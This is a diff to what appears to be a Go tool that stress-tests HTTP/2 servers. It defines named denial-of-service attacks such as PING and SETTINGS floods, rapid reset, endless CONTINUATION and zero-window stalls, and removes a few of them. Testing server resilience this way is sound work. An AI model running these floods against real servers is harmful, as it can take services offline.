@@ -16,13 +16,10 @@ import (
 var http2Attacks = map[string]attacker.Attack{
 	"HTTP 2 without a preface":              {Connections: many, Converse: noPreface},
 	"HTTP 2 PING flood":                     {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })},
-	"HTTP 2 PING flood without reading":     {Connections: few, Converse: frames(false, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })},
 	"HTTP 2 SETTINGS flood":                 {Connections: few, Converse: frames(true, settings)},
 	"HTTP 2 SETTINGS flood without reading": {Connections: few, Converse: frames(false, settings)},
 	"HTTP 2 PRIORITY flood":                 {Connections: few, Converse: frames(true, priority)},
 	"HTTP 2 WINDOW_UPDATE flood":            {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) })},
-	"HTTP 2 window overflow":                {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1<<31-1) })},
-	"HTTP 2 unknown frames":                 {Connections: few, Converse: frames(true, func(f *http2.Framer, _ uint32) error { return f.WriteRawFrame(0xbe, 0, 0, make([]byte, 16<<10)) })},
 	"HTTP 2 frame of 16 MiB": {Connections: few, Converse: frames(true, func(f *http2.Framer, id uint32) error {
 		return f.WriteRawFrame(http2.FrameData, 0, id, make([]byte, 1<<24-1))
 	})},
@@ -30,13 +27,9 @@ var http2Attacks = map[string]attacker.Attack{
 	"HTTP 2 rapid reset":              {Connections: few, Converse: streams(true, nil, rapidReset)},
 	"HTTP 2 made you reset":           {Connections: few, Converse: streams(true, nil, madeYouReset)},
 	"HTTP 2 endless CONTINUATION":     {Connections: few, Converse: streams(true, nil, continuation)},
-	"HTTP 2 empty CONTINUATION":       {Connections: few, Converse: streams(true, nil, emptyContinuation)},
 	"HTTP 2 empty DATA":               {Connections: few, Converse: streams(true, nil, emptyData)},
 	"HTTP 2 zero windows":             {Connections: many, Converse: streams(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, get)},
-	"HTTP 2 windows of one byte":      {Connections: few, Converse: streams(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}}, get)},
 	"HTTP 2 without reading":          {Connections: many, Converse: streams(false, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}, get)},
-	"HTTP 2 HEADERS for one stream":   {Connections: few, Converse: streams(true, nil, sameStream)},
-	"HTTP 2 trailers that don't end":  {Connections: few, Converse: streams(true, nil, trailers)},
 	"HTTP 2 small table, large table": {Connections: few, Converse: streams(true, nil, tableSizes)},
 }
 
@@ -119,30 +112,11 @@ func continuation(f *http2.Framer, request []byte, id uint32) error {
 	return f.WriteContinuation(1, false, block.Bytes())
 }
 
-func emptyContinuation(f *http2.Framer, request []byte, id uint32) error {
-	if id == 1 {
-		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request})
-	}
-	return f.WriteContinuation(1, false, nil)
-}
-
 func emptyData(f *http2.Framer, request []byte, id uint32) error {
 	if id == 1 {
 		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request, EndHeaders: true})
 	}
 	return f.WriteData(1, false, nil)
-}
-
-// sameStream starts the same stream again and again.
-func sameStream(f *http2.Framer, request []byte, _ uint32) error {
-	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request, EndHeaders: true})
-}
-
-func trailers(f *http2.Framer, request []byte, id uint32) error {
-	if err := sameStream(f, request, id); err != nil {
-		return err
-	}
-	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true})
 }
 
 // tableSizes changes the size of the compression table in each request.
